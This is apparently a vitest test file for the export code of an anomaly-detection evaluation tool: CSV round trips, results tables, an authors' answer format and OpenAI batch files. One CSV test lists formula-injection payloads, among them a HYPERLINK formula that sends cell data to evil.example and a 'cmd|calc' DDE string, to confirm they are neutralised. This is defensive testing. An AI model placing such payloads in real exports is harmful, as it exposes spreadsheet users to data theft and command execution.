import { describe, expect, it } from 'vitest';
import type { Case, Result, Run } from '@/core/model';
import { parseCsv, toCsv } from '@/core/export/csv';
import { buildExportRows, labelsFromRows, outcomesByRun, rowsFromCsv, rowsFromJson, rowsToCsv, rowsToJson } from '@/core/export/results-table';
import { toAuthorsAnswers } from '@/core/export/authors-format';
import { parseBatchOutput, toBatchJsonl } from '@/core/export/openai-batch';

const mkCase = (id: string, truth: Case['truth'], className = 'bottle'): Case => ({ id, assetId: `a-${id}`, kind: 'image', name: `${className}/test/${id}.png`, className, role: 'test', truth, maskAssetIds: [], addedAt: 1 });
const cases: Case[] = [
  mkCase('c1', { status: 'anomalous', defectType: 'crack', note: 'rim, "sharp", edge\nsecond line', source: 'hand', at: 1700000000123 }),
  mkCase('c2', { status: 'normal', source: 'folder', at: 5 }),
  mkCase('c3', { status: 'unlabelled' }),
  mkCase('c4', { status: 'unsure', note: '=SUM(A1)', source: 'hand', at: 9 }, 'cable'),
];
const run: Run = { id: 'r1', name: 'v1', detector: 'vlm', promptVersionId: 'pv1', provider: { presetId: 'openai', baseURL: 'x', model: 'gpt-x' }, params: {}, caseIds: ['c1', 'c2', 'c3', 'c4'], repeat: 1, status: 'done', createdAt: 1 };
const res = (caseId: string, p: Partial<Result>): Result => ({ id: `r1:${caseId}:0`, runId: 'r1', caseId, rep: 0, status: 'ok', createdAt: 1, ...p });
const results: Result[] = [
  res('c1', { verdict: 'anomalous', score: 0.83, scoreSource: 'logprobs', reasoning: 'The rim, has a "crack".\nR2 violated.', violatedRules: ['R1', 'R2'] }),
  res('c2', { status: 'error', error: { kind: 'http', message: 'The server said 500.', httpStatus: 500 } }),
  res('c4', { verdict: 'normal', score: 0.1, scoreSource: 'confidence' }),
];

describe('CSV', () => {
  it('round-trips commas, quotes and newlines', () => {
    const rows = [['a', 'b,c', 'say "hi"', 'x\r\ny', '']];
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });
  it('writes formula-like cells as text (OWASP CSV injection) and reads them back unchanged', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', "'=already quoted"];
    const safe = ['-0.5', '+3', '1e-3', 'normal', 'R1-R2'];
    const csv = toCsv([[...hostile, ...safe]]);
    const cells = csv.replace(/\r\n$/, '');
    // Every hostile cell, as a spreadsheet sees it, starts with an apostrophe (inside quotes where needed).
    for (const h of hostile) expect(cells).not.toMatch(new RegExp(`(^|,)"?${h.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
    expect(cells.startsWith('"\'=HYPERLINK(')).toBe(true);
    expect(cells).toContain(",'+1+cmd|calc,");
    expect(cells).toContain(",'@SUM(A1),");
    // Plain numbers stay numbers.
    expect(cells.endsWith(',-0.5,+3,1e-3,normal,R1-R2')).toBe(true);
    expect(parseCsv(csv)).toEqual([[...hostile, ...safe]]);
  });
  it('names the file when a quote is never closed', () => {
    expect(() => parseCsv('a,"b\n', 'labels.csv')).toThrow(/labels\.csv ends inside a quoted field/);
  });
});

describe('results table', () => {
  const rows = buildExportRows(cases, [run], results, [{ id: 'pv1', version: 3 }]);
  it('has one row per answer and one per case without answers', () => {
    expect(rows.map((r) => r.caseId)).toEqual(['c1', 'c2', 'c3', 'c4']);
    expect(rows[0]).toMatchObject({ className: 'bottle', label: 'anomalous', labelSource: 'hand', verdict: 'anomalous', score: 0.83, scoreSource: 'logprobs', model: 'gpt-x', promptVersion: 3 });
    expect(rows[1]).toMatchObject({ status: 'error', error: 'The server said 500.' });
    expect(rows[2].runId).toBeUndefined();
  });
  it('round-trips labels exactly through CSV and JSON', () => {
    for (const back of [rowsFromCsv(rowsToCsv(rows)), rowsFromJson(rowsToJson(rows, 1))]) {
      const labels = labelsFromRows(back, 999);
      for (const c of cases) expect(labels.get(c.id)).toEqual(c.truth);
      expect(back[0].violatedRules).toEqual(['R1', 'R2']);
      expect(back[0].reasoning).toBe(results[0].reasoning);
    }
  });
  it('marks labels from a file without sources as imported now', () => {
    const labels = labelsFromRows(rowsFromCsv('caseId,label\r\nc9,anomalous\r\n'), 42);
    expect(labels.get('c9')).toEqual({ status: 'anomalous', source: 'import', at: 42 });
  });
  it('rejects unknown labels with a sentence naming the line', () => {
    expect(() => rowsFromCsv('caseId,label\r\nc9,broken\r\n', 'x.csv')).toThrow('x.csv, line 2, has the label "broken"');
  });
  it('folds answers back into per-run metric rows', () => {
    const o = outcomesByRun(rowsFromCsv(rowsToCsv(rows))).get('r1')!;
    expect(o.map((x) => [x.caseId, x.outcome, x.verdict])).toEqual([
      ['c1', 'ok', 'anomalous'],
      ['c2', 'error', undefined],
      ['c4', 'ok', 'normal'],
    ]);
  });
  it('gives the authors’ answer format with correctness 1 = normal and says what it left out', () => {
    const { answers, skipped } = toAuthorsAnswers(rows, { bottle: 'bottle/train/good/000.png' });
    expect(answers).toEqual([{ object_type: 'bottle', defect_img_path: 'bottle/test/c1.png', good_img_path: 'bottle/train/good/000.png', label: 0, defect_type: 'crack', reasoning: results[0].reasoning, correctness: 0 }]);
    expect(skipped).toEqual({ failed: 1, unlabelled: 1, folded: 0 });
  });
  it('writes one majority answer per case when a run repeats, as the metrics vote', () => {
    const rep = (caseId: string, n: number, p: Partial<Result>): Result => ({ id: `r3:${caseId}:${n}`, runId: 'r3', caseId, rep: n, status: 'ok', createdAt: 1, ...p });
    const run3: Run = { ...run, id: 'r3', repeat: 3 };
    const repeated = buildExportRows(cases, [run3], [
      rep('c1', 0, { verdict: 'normal', reasoning: 'looks fine' }),
      rep('c1', 1, { verdict: 'anomalous', reasoning: 'crack at the rim' }),
      rep('c1', 2, { verdict: 'anomalous', reasoning: 'crack again' }),
      rep('c2', 0, { status: 'error', error: { kind: 'http', message: 'x' } }),
      rep('c2', 1, { verdict: 'normal', reasoning: 'clean' }),
      rep('c2', 2, { status: 'unparsed' }),
    ]);
    const { answers, skipped } = toAuthorsAnswers(repeated);
    expect(answers.map((a) => [a.defect_img_path, a.correctness, a.reasoning])).toEqual([
      ['bottle/test/c1.png', 0, 'crack at the rim'],
      ['bottle/test/c2.png', 1, 'clean'],
    ]);
    expect(skipped).toEqual({ failed: 0, unlabelled: 0, folded: 2 });
    // The same verdicts the metrics fold from the same rows.
    const outcomes = outcomesByRun(repeated).get('r3')!;
    expect(outcomes.map((o) => o.verdict)).toEqual(['anomalous', 'normal']);
  });
});

describe('OpenAI batch files', () => {
  it('writes one line per case with custom_id = case id', () => {
    const text = toBatchJsonl([{ caseId: 'c1', body: { model: 'm' } }, { caseId: 'c2', body: { model: 'm' } }]);
    const lines = text.trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toEqual([
      { custom_id: 'c1', method: 'POST', url: '/v1/chat/completions', body: { model: 'm' } },
      { custom_id: 'c2', method: 'POST', url: '/v1/chat/completions', body: { model: 'm' } },
    ]);
    expect(() => toBatchJsonl([{ caseId: 'c1', body: {} }, { caseId: 'c1', body: {} }])).toThrow(/appears twice/);
  });
  it('reads answers and failures from the output file', () => {
    const out = [
      { id: 'b1', custom_id: 'c1', response: { status_code: 200, body: { choices: [{ message: { content: '{"verdict":"normal"}' } }], usage: { prompt_tokens: 10, completion_tokens: 5 } } }, error: null },
      { id: 'b2', custom_id: 'c2', response: { status_code: 429, body: { error: { message: 'Rate limit' } } }, error: null },
      { id: 'b3', custom_id: 'c3', response: null, error: { code: 'x', message: 'Expired' } },
    ]
      .map((o) => JSON.stringify(o))
      .join('\n');
    expect(parseBatchOutput(out)).toEqual([
      { caseId: 'c1', httpStatus: 200, content: '{"verdict":"normal"}', usage: { promptTokens: 10, completionTokens: 5 } },
      { caseId: 'c2', httpStatus: 429, error: 'The batch request for case c2 failed (HTTP 429): Rate limit.' },
      { caseId: 'c3', httpStatus: undefined, error: 'The batch request for case c3 failed: Expired.' },
    ]);
    expect(() => parseBatchOutput('{oops', 'out.jsonl')).toThrow('out.jsonl, line 1, is not JSON');
  });
});
